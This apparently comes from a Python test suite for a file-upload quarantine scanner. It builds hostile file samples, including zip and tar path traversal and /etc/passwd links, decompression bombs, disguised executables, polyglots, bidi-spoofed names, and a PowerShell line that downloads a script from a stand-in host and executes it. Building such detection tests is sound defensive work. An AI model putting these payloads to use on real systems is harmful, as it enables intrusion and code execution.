"""Hostile and odd files for names, types and containers: harmless, made here, each with its verdict."""

import bz2
import dataclasses
import gzip
import io
import lzma
import random
import stat
import struct
import tarfile
import zlib
from collections.abc import Callable

import zstandard

from tests.quarantine.zip_maker import Item, deflate, make_overlapping, make_zip, make_zip64

CSV = b"name,price\nring,100\nchain,200\n"
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
NOISE = random.Random(7).randbytes(9000)
ELF = b"\x7fELF\2\1\1" + bytes(200)


@dataclasses.dataclass
class Case:
    name: str
    make: Callable[[], bytes]
    verdict: str
    code: str
    extensions: tuple[str, ...] = ()

    @property
    def id(self) -> str:
        return f"{self.code}-{self.name}"


def png(tail=b""):
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(b"\0\1\2\3"))
        + chunk(b"IEND", b"")
        + tail
    )


def jpeg(tail=b""):
    quantum = b"\xff\xdb\0\x43\0" + bytes([1] * 64)
    frame = b"\xff\xc0\0\x0b\x08\0\1\0\1\1\1\x11\0"
    table = b"\xff\xc4\0\x14\0\1" + bytes(15) + b"\0" + b"\xff\xc4\0\x14\x10\1" + bytes(15) + b"\0"
    scan = b"\xff\xda\0\x08\1\1\0\0\x3f\0\x3f\xff\0\x12"
    return b"\xff\xd8" + quantum + frame + table + scan + b"\xff\xd9" + tail


def gif(tail=b"", width=1):
    head = b"GIF89a" + struct.pack("<HHBBB", width, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0\x3b" + tail


def pdf(before=b"", tail=b""):
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
    )
    return before + body + tail


def tar(*members, tail=b""):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            info.type, info.size = kind, len(content)
            info.linkname = "/etc/passwd" if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE) else ""
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue() + tail


def nest(levels, data=None):
    data = data or make_zip(Item(b"a.csv", CSV))
    for level in range(levels):
        data = make_zip(Item(f"{level}.zip".encode(), data, method=0))
    return data


def zeros(mib, packer):
    return packer(bytes(1024 * 1024) * mib)


def office(content_type, *more):
    types = f'<?xml version="1.0"?><Types><Override PartName="/m.xml" ContentType="{content_type}"/></Types>'
    return make_zip(Item(b"[Content_Types].xml", types.encode()), Item(b"m.xml", b"<m></m>"), *more)


def broken_descriptor():
    good = make_zip(Item(b"a.csv", CSV, described="I"))
    at = good.index(b"PK\7\x08")
    return good[: at + 4] + b"\0\0\0\0" + good[at + 8 :]


def without_directory():
    good = make_zip(Item(b"a.csv", CSV))
    return good[: good.index(b"PK\1\2")]


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REJECTED, SUSPICIOUS, ERROR = "rejected", "suspicious", "error"
LINK = stat.S_IFLNK | 0o777
POWERSHELL = (
    b"$client = New-Object System.Net.WebClient\r\n"
    b"$text = $client.DownloadString('http://files.example/x')\r\n"
    b"Invoke-Expression $text\r\nWrite-Host 'done'\r\n"
)
VBS = (
    b'Set shell = CreateObject("WScript.Shell")\r\nDim name\r\nOn Error Resume Next\r\n'
    b'shell.Run "notepad.exe"\r\n'
)
BATCH = b"@echo off\r\nsetlocal\r\nif exist a.txt del /q a.txt\r\ngoto end\r\n:end\r\n"
JSCRIPT = (
    b'var shell = new ActiveXObject("WScript.Shell");\nvar x = 1;\nshell.Run("notepad.exe");\n'
)


def z(*items, **more):
    return lambda: make_zip(*items, **more)


CSV_ITEM = Item(b"a.csv", CSV)
CASES = [
    # Two readers see two things.
    Case("concatenated.zip", lambda: make_zip(CSV_ITEM) + make_zip(Item(b"b.csv", CSV)), REJECTED, "container.prefix"),
    Case("overlap.zip", make_overlapping, REJECTED, "container.overlap"),
    Case("overlap-one.zip", z(CSV_ITEM, Item(b"b.csv", CSV, offset=0)), REJECTED, "container.overlap"),
    Case("gap.zip", z(Item(b"a.csv", CSV, behind=b"hidden"), Item(b"b.csv", CSV)), REJECTED, "container.gap"),
    Case("gap-large.zip", z(Item(b"a.csv", CSV, behind=bytes(500)), Item(b"b.csv", CSV)), REJECTED, "container.gap"),
    Case("gap-at-directory.zip", z(CSV_ITEM, gap=b"hidden"), REJECTED, "container.gap"),
    Case("unlisted-entry.zip", z(CSV_ITEM, gap=make_zip(Item(b"b.csv"))[:50]), REJECTED, "container.gap"),
    Case("prefix.zip", lambda: b"PK\3\4" + bytes(60) + make_zip(CSV_ITEM), REJECTED, "container.prefix"),
    Case("prefix-counted.zip", z(CSV_ITEM, prefix=b"PK\3\4" + bytes(60), shift=64), REJECTED, "container.gap"),
    Case("trailing.zip", z(CSV_ITEM, trailing=b"<script>1</script>"), REJECTED, "container.trailing"),
    Case("two-ends.zip", z(CSV_ITEM, comment=make_zip()), REJECTED, "container.structure"),
    Case("no-directory.zip", without_directory, REJECTED, "container.structure"),
    Case("cut.zip", lambda: make_zip(CSV_ITEM)[:-30], REJECTED, "container.structure"),
    Case("name-lie.zip", z(Item(b"a.csv", CSV, local_name=b"a.exe")), REJECTED, "container.name_lie"),
    Case("unicode-name-lie.zip", z(Item(b"a.csv", CSV, extra=struct.pack("<HHBI", 0x7075, 10, 1, 0) + b"b.exe")), REJECTED, "container.name_lie"),
    Case("method-lie.zip", z(Item(b"a.csv", CSV, local_method=0)), REJECTED, "container.lie"),
    Case("flag-lie.zip", z(Item(b"a.csv", CSV, local_flags=1)), REJECTED, "container.lie"),
    Case("size-lie-local.zip", z(Item(b"a.csv", CSV, local_size=5)), REJECTED, "container.lie"),
    Case("size-lie.zip", z(Item(b"a.csv", CSV, size=5)), REJECTED, "container.size_lie"),
    Case("size-lie-more.zip", z(Item(b"a.csv", CSV, size=5000)), REJECTED, "container.size_lie"),
    Case("crc-lie.zip", z(Item(b"a.csv", CSV, crc=1)), REJECTED, "container.size_lie"),
    Case("behind-stream.zip", z(Item(b"a.csv", CSV, packed=deflate(CSV) + b"hidden")), REJECTED, "container.size_lie"),
    Case("damaged-stream.zip", z(Item(b"a.csv", CSV, packed=b"\xff\xff\xff")), REJECTED, "container.size_lie"),
    Case("descriptor-lie.zip", broken_descriptor, REJECTED, "container.gap"),
    Case("zip64-lie.zip", lambda: make_zip64(lie=9), REJECTED, "container.lie"),
    Case("count-lie.zip", z(CSV_ITEM, Item(b"b.csv", CSV), count=1), REJECTED, "container.structure"),
    Case("disk.zip", z(Item(b"a.csv", CSV, disk=3)), REJECTED, "container.structure"),
    Case("duplicate.zip", z(CSV_ITEM, CSV_ITEM), REJECTED, "container.duplicate"),
    Case("duplicate-case.zip", z(CSV_ITEM, Item(b"A.CSV", CSV)), REJECTED, "container.duplicate"),
    Case("file-as-folder.zip", z(CSV_ITEM, Item(b"a.csv/b.csv", CSV)), REJECTED, "container.duplicate"),
    Case("folder-with-content.zip", z(Item(b"a/", CSV)), REJECTED, "container.lie"),
    # Ways out of the folder.
    Case("up.zip", z(Item(b"../../a.csv", CSV)), REJECTED, "container.traversal"),
    Case("up-inside.zip", z(Item(b"a/../../b.csv", CSV)), REJECTED, "container.traversal"),
    Case("up-backslash.zip", z(Item(b"..\\..\\a.csv", CSV)), REJECTED, "container.traversal"),
    Case("absolute.zip", z(Item(b"/etc/cron.d/a.csv", CSV)), REJECTED, "container.traversal"),
    Case("drive.zip", z(Item(b"C:\\a.csv", CSV)), REJECTED, "container.traversal"),
    Case("nul-in-name.zip", z(Item(b"a.csv\0.exe", CSV)), REJECTED, "container.traversal"),
    Case("link.zip", z(Item(b"a.csv", b"/etc/passwd", mode=LINK)), REJECTED, "container.link"),
    Case("device.zip", z(Item(b"a.csv", b"", mode=stat.S_IFCHR)), REJECTED, "container.link"),
    Case("link.tar", lambda: tar(("a.csv", tarfile.SYMTYPE, b"")), REJECTED, "container.link"),
    Case("hardlink.tar", lambda: tar(("a.csv", tarfile.LNKTYPE, b"")), REJECTED, "container.link"),
    Case("device.tar", lambda: tar(("a.csv", tarfile.BLKTYPE, b"")), REJECTED, "container.special"),
    Case("fifo.tar", lambda: tar(("a.csv", tarfile.FIFOTYPE, b"")), REJECTED, "container.special"),
    Case("up.tar", lambda: tar(("../a.csv", tarfile.REGTYPE, CSV)), REJECTED, "container.traversal"),
    Case("absolute.tar", lambda: tar(("/a.csv", tarfile.REGTYPE, CSV)), REJECTED, "container.traversal"),
    Case("duplicate.tar", lambda: tar(("a.csv", tarfile.REGTYPE, CSV), ("a.csv", tarfile.REGTYPE, CSV)), REJECTED, "container.duplicate"),
    Case("trailing.tar", lambda: tar(("a.csv", tarfile.REGTYPE, CSV), tail=b"hidden"), REJECTED, "container.trailing"),
    Case("cut.tar", lambda: tar(("a.csv", tarfile.REGTYPE, CSV))[:700], REJECTED, "container.structure"),
    Case("link.tar.gz", lambda: gzip.compress(tar(("a.csv", tarfile.SYMTYPE, b""))), REJECTED, "container.link"),
    # Bombs.
    Case("bomb.zip", lambda: make_zip(Item(b"a.txt", bytes(100 << 20))), REJECTED, "container.bomb"),
    Case("bomb-lying.zip", lambda: make_zip(Item(b"a.txt", bytes(80 << 20), size=100)), REJECTED, "container.size_lie"),
    Case("bomb.txt.gz", lambda: zeros(80, gzip.compress), REJECTED, "container.bomb"),
    Case("bomb.txt.xz", lambda: zeros(80, lzma.compress), REJECTED, "container.bomb"),
    Case("bomb.txt.bz2", lambda: zeros(80, bz2.compress), REJECTED, "container.bomb"),
    Case("bomb.txt.zst", lambda: zeros(80, zstandard.compress), REJECTED, "container.bomb"),
    Case("bomb.txt.lzma", lambda: zeros(80, lambda b: lzma.compress(b, lzma.FORMAT_ALONE)), REJECTED, "container.bomb"),
    Case("bomb-ratio.zip", lambda: make_zip(Item(b"a.txt", bytes(12 << 20))), REJECTED, "container.bomb"),
    Case("bomb-total.zip", lambda: make_zip(*[Item(b"%d.dat" % n, b"ab" * (15 << 20), packed=None) for n in range(9)]), REJECTED, "container.bomb"),
    Case("many.zip", lambda: make_zip(*[Item(b"%d.txt" % n, b"x") for n in range(2001)]), REJECTED, "container.entries"),
    Case("many.tar", lambda: tar(*[(f"{n}.txt", tarfile.REGTYPE, b"x") for n in range(2001)]), REJECTED, "container.entries"),
    Case("many-in-two.zip", lambda: make_zip(*[Item(b"%d.zip" % m, make_zip(*[Item(b"%d.txt" % n, b"x") for n in range(1100)])) for m in range(2)]), REJECTED, "container.entries"),
    Case("nested.zip", lambda: nest(3), REJECTED, "container.depth"),
    Case("nested-18.zip", lambda: nest(18), REJECTED, "container.depth"),
    Case("bomb-inside.zip", lambda: make_zip(Item(b"a.gz", zeros(80, gzip.compress))), REJECTED, "container.bomb"),
    Case("bomb.docx", lambda: office(XLSX.replace("spreadsheetml.sheet", "wordprocessingml.document"), Item(b"b.xml", b"<a>" + bytes(70 << 20))), REJECTED, "container.bomb"),
    # Damaged.
    Case("cut.csv.gz", lambda: gzip.compress(CSV)[:-6], REJECTED, "container.structure"),
    Case("trailing.csv.gz", lambda: gzip.compress(CSV) + b"hidden", REJECTED, "container.structure"),
    Case("padded.csv.gz", lambda: gzip.compress(CSV) + bytes(9) + gzip.compress(b"hidden"), REJECTED, "container.trailing"),
    Case("cut.csv.zst", lambda: zstandard.compress(CSV * 99)[:-6], REJECTED, "container.structure"),
    Case("cut.csv.xz", lambda: lzma.compress(CSV)[:-6], REJECTED, "container.structure"),
    # Nobody can look inside.
    Case("encrypted.zip", z(Item(b"a.csv", CSV, flags=1, packed=bytes(40))), SUSPICIOUS, "container.encrypted"),
    Case("aes.zip", z(Item(b"a.csv", CSV, method=99, flags=1, packed=bytes(40), extra=struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8))), SUSPICIOUS, "container.encrypted"),
    Case("strong.zip", z(Item(b"a.csv", CSV, flags=0x41, packed=bytes(40))), SUSPICIOUS, "container.encrypted"),
    Case("bzip2-inside.zip", z(Item(b"a.csv", CSV, method=12, packed=bz2.compress(CSV))), SUSPICIOUS, "container.method"),
    Case("unknown-method.zip", z(Item(b"a.csv", CSV, method=77, packed=CSV)), SUSPICIOUS, "container.method"),
    Case("a.7z", lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), SUSPICIOUS, "container.unsupported"),
    Case("encrypted.7z", lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(4) + struct.pack("<QQI", 0, 20, 0) + b"\x17\6\1\x09\0\7\x0b\1\0\1\x24\6\xf1\7\1" + bytes(5), SUSPICIOUS, "container.encrypted"),
    Case("a.rar", lambda: b"Rar!\x1a\7\1\0" + bytes(4) + b"\x0b\1\5\7" + bytes(40), SUSPICIOUS, "container.unsupported"),
    Case("encrypted.rar", lambda: b"Rar!\x1a\7\1\0" + bytes(4) + b"\x21\4\0\0" + bytes(40), SUSPICIOUS, "container.encrypted"),
    Case("a.cab", lambda: b"MSCF" + bytes(60), SUSPICIOUS, "container.unsupported"),
    Case("a.iso", lambda: bytes(0x8001) + b"CD001\1" + bytes(3000), SUSPICIOUS, "container.unsupported"),
    Case("seven-as.zip", lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), SUSPICIOUS, "container.unsupported"),
    # Programs and scripts, under any name.
    Case("setup.exe", lambda: PE, SUSPICIOUS, "type.executable"),
    Case("photo.jpg", lambda: PE, SUSPICIOUS, "type.executable"),
    Case("tool", lambda: ELF, SUSPICIOUS, "type.executable"),
    Case("in-archive.zip", z(Item(b"a/invoice.pdf.exe", PE)), SUSPICIOUS, "type.executable"),
    Case("shortcut.lnk", lambda: b"L\0\0\0\1\x14\2\0" + bytes(80), SUSPICIOUS, "type.executable"),
    Case("applet.zip", z(Item(b"META-INF/MANIFEST.MF", b"M: 1\n"), Item(b"A.class", b"\xca\xfe\xba\xbe\0\0\0\x34")), SUSPICIOUS, "type.executable"),
    Case("run.sh", lambda: b"#!/bin/sh\necho 1\n", SUSPICIOUS, "type.script"),
    Case("notes.txt", lambda: b"#!/usr/bin/env python3\nprint(1)\n", SUSPICIOUS, "type.script"),
    Case("prices.csv", lambda: POWERSHELL, SUSPICIOUS, "type.script"),
    Case("wide.txt", lambda: POWERSHELL.decode().encode("utf-16"), SUSPICIOUS, "type.script"),
    Case("macro.txt", lambda: VBS, SUSPICIOUS, "type.script"),
    Case("batch.txt", lambda: BATCH, SUSPICIOUS, "type.script"),
    Case("jscript.txt", lambda: JSCRIPT, SUSPICIOUS, "type.script"),
    Case("page.php.txt", lambda: b"<?php echo 1; ?>\n", SUSPICIOUS, "type.script"),
    Case("empty.js", lambda: b"\n", SUSPICIOUS, "type.script"),
    # One name, another kind.
    Case("png-as.pdf", png, SUSPICIOUS, "type.mismatch"),
    Case("pdf-as.png", pdf, SUSPICIOUS, "type.mismatch"),
    Case("html-as.csv", lambda: b"<html><body>1</body></html>", SUSPICIOUS, "type.mismatch"),
    Case("html-as.xls", lambda: b"<html><table><tr><td>1</table></html>", SUSPICIOUS, "type.mismatch"),
    Case("svg-as.xml", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', SUSPICIOUS, "type.mismatch"),
    Case("zip-as.docx", z(CSV_ITEM), SUSPICIOUS, "type.mismatch"),
    Case("macros-as.xlsx", lambda: office("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), SUSPICIOUS, "type.mismatch"),
    Case("macros-hidden.xlsx", lambda: office(XLSX, Item(b"xl/vbaProject.bin", b"\1\2\3")), SUSPICIOUS, "type.mismatch"),
    Case("ole-as-picture.xlsx", lambda: office(XLSX, Item(b"xl/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))), SUSPICIOUS, "type.mismatch"),
    Case("empty.pdf", lambda: b"", SUSPICIOUS, "type.mismatch"),
    Case("noise.dat", lambda: NOISE, SUSPICIOUS, "type.mismatch"),
    Case("noise.qqq", lambda: NOISE, SUSPICIOUS, "type.unknown"),
    Case("hidden-picture", png, SUSPICIOUS, "type.mismatch"),
    # Two files in one.
    Case("tail.png", lambda: png(b"<script>1</script>"), SUSPICIOUS, "type.polyglot"),
    Case("tail.jpg", lambda: jpeg(b"MZ hidden"), SUSPICIOUS, "type.polyglot"),
    Case("tail.gif", lambda: gif(b"=1;alert(1)"), SUSPICIOUS, "type.polyglot"),
    Case("script.gif", lambda: gif(width=0x2A2F), SUSPICIOUS, "type.polyglot"),
    Case("zip-behind.png", lambda: png(make_zip(CSV_ITEM)), SUSPICIOUS, "type.polyglot"),
    Case("zip-behind.pdf", lambda: pdf(tail=make_zip(CSV_ITEM)), SUSPICIOUS, "type.polyglot"),
    Case("zip-inside.pdf", lambda: pdf(tail=make_zip(CSV_ITEM, comment=b"\n%%EOF\n")), SUSPICIOUS, "type.polyglot"),
    Case("before-pdf.txt", lambda: pdf(b"hello\n"), SUSPICIOUS, "type.polyglot"),
    Case("html-in.pdf", lambda: pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script>1</script>\n"), SUSPICIOUS, "type.polyglot"),
    Case("cut.png", lambda: png()[:-20], SUSPICIOUS, "type.polyglot"),
    Case("zip-behind.csv", lambda: CSV + make_zip(CSV_ITEM), SUSPICIOUS, "type.mismatch"),
    # Names and the list of the place.
    Case("evil\u202efdp.csv", lambda: CSV, REJECTED, "name.bad"),
    Case("con.csv", lambda: CSV, REJECTED, "name.bad"),
    Case("a" * 201 + ".csv", lambda: CSV, REJECTED, "name.bad"),
    Case("../a.csv", lambda: CSV, REJECTED, "name.bad"),
    Case("bidi-inside.zip", z(Item("a\u202egpj.csv".encode(), CSV, flags=0x800)), SUSPICIOUS, "name.bad"),
    Case("a.pdf", pdf, REJECTED, "type.not_allowed", ("csv", "xlsx")),
    Case("pdf-inside.zip", z(Item(b"a.pdf", pdf())), REJECTED, "type.not_allowed", ("csv", "zip")),
]  # fmt: skip
